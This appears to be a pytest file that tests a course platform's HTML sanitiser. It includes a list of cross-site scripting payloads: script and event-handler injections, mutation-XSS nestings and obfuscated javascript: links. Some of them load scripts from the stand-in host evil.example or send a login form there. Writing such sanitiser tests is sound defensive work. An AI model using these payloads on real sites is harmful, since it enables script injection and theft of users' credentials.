"""Author HTML that must come out harmless, and the traps of the sanitiser itself."""

from html.parser import HTMLParser

import pytest

from lms.courseware.links import Page, Places, Target
from lms.courseware.markdown import Job, convert
from lms.courseware.sanitize import MATH_TAGS, TEXT_TAGS, clean, plain, visible

PLACES = Places(
    "prima",
    {
        "aset/loket.png": Target("/kursus/prima/aset/abc/loket.png", 640, 480),
        "aset/ringkas.pdf": Target("/kursus/prima/aset/def/ringkas.pdf"),
    },
    {"02-maklumat.md": Page("maklumat", ("cek-maklumat",))},
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<form action=https://evil.example><input name=nip><button>Masuk</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<math><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 "
    "onerror=alert(1)>'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<div onclick=alert(1) onmouseover='alert(2)'>teks</div>",
    "teks[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:1>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="ftp://evil.example">x</a>',
    "# Judul {: onclick=alert(1) style=color:red #currentUser }",
    "teks\n{: .note .alert onclick=alert(1) }",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    '<video src="https://evil.example/v.mp4" autoplay></video>',
    '<img name=getElementById src="aset/loket.png" alt=x>',
    "<a id=currentUser name=location>x</a>",
    '<object data="x.swf"></object><embed src="x.swf">',
    "<!-- <script> --><p>a</p><!--[if IE]><script>alert(1)</script><![endif]-->",
    "```html\n<script>alert(1)</script>\n```",
    "/// catatan\n    attrs: {onclick: alert(1), style: 'position:fixed', id: isi}\n"
    "Teks\n///",
    '<math href="javascript:1"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<div data-behaviour="keep-draft" data-soal="1" class="check topbar">x</div>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<template><script>alert(1)</script></template>",
    '<a href="//evil.example/masuk">Masuk</a>',
    '<a href="/\\evil.example/masuk">Masuk</a>',
    '<a href="https://a.example" target="_blank" rel="opener">x</a>',
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.found.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_harmless(text: str) -> None:
    html = convert(text, Job(PLACES, "01.md"))
    for tag, attributes in _tags(html):
        assert tag in TEXT_TAGS | MATH_TAGS
        for name, value in attributes.items():
            assert not name.startswith(("on", "data-", "xlink", "style", "target"))
            if name in ("id", "name"):
                assert value.startswith("isi-")
            if name in ("href", "cite"):
                assert value.startswith(
                    ("https://", "http://", "mailto:", "tel:", "#isi-", "/kursus/")
                )
            if name == "src":
                assert value.startswith("/kursus/prima/aset/")
            if name == "rel":
                assert value == "noopener"


def test_template_marks_are_shown_as_they_are() -> None:
    text = "{{7*7}} {% include 'x' %} ${7+7} #{7+7}"
    assert plain(convert(text, Job(PLACES, formulas=True))) == text


def test_direction_marks_and_hidden_letters_can_be_seen() -> None:
    html = convert(
        "aman\u202etxt.exe `a\u2066b` &#x202E; ke\u200brja ![a\u202eb](aset/loket.png)",
        Job(PLACES),
    )
    assert not {"\u202e", "\u2066", "\u200b"} & set(html)
    assert html.count("⟦U+202E⟧") == 3
    assert "⟦U+2066⟧" in html
    assert "⟦U+200B⟧" in html
    assert visible("عربي \u200d 👩\u200d💻") == "عربي \u200d 👩\u200d💻"


def test_right_to_left_text_may_be_marked() -> None:
    assert (
        _clean('<p dir="rtl" lang="ar">سلام</p>') == '<p dir="rtl" lang="ar">سلام</p>'
    )


def test_own_ids_and_everything_that_points_to_them_get_the_prefix() -> None:
    html = _clean(
        '<p id="x" aria-describedby="y isi-z">a</p><a href="#x">b</a>'
        '<details name="t"><summary>c</summary></details>'
    )
    assert 'id="isi-x"' in html
    assert 'href="#isi-x"' in html
    assert 'aria-describedby="isi-y isi-z"' in html
    assert 'name="isi-t"' in html


def test_links_tell_the_new_page_nothing_about_its_opener() -> None:
    assert _clean('<a href="https://a.example" rel="opener">x</a>') == (
        '<a href="https://a.example" rel="noopener">x</a>'
    )


def test_styles_are_dropped_whatever_they_say() -> None:
    assert _clean('<p style="text-align:right">a</p>') == "<p>a</p>"


def test_only_classes_of_the_renderer_are_kept() -> None:
    html = _clean(
        '<div class="note note--warn button check">a</div><p class="note">b</p>'
    )
    assert html.startswith('<div class="note note--warn">a</div>')
    assert "button" not in html
    assert "check" not in html
    assert html.count("note") == 2


def test_raw_pictures_of_the_course_get_their_address_and_others_lose_theirs() -> None:
    assert 'src="/kursus/prima/aset/abc/loket.png"' in _clean(
        '<img src="aset/loket.png" alt="a">'
    )
    for source in (
        "https://evil.example/x.png",
        "//evil.example/x.png",
        "/kursus/lain/aset/abc/x.png",
        "../../etc/passwd",
        "data:image/png;base64,AAAA",
    ):
        assert "src" not in _clean(f'<img src="{source}" alt="a">')


def test_mathml_survives_and_its_links_do_not() -> None:
    html = _clean('<math display="block"><mi href="javascript:1">x</mi></math>')
    assert html == '<math display="block"><mi>x</mi></math>'


def test_cleaning_twice_changes_nothing() -> None:
    for text in HOSTILE:
        once = convert(text, Job(PLACES, "01.md"))
        assert clean(once, PLACES, "01.md") == once


def _clean(markup: str) -> str:
    return clean(markup, PLACES, "01.md")
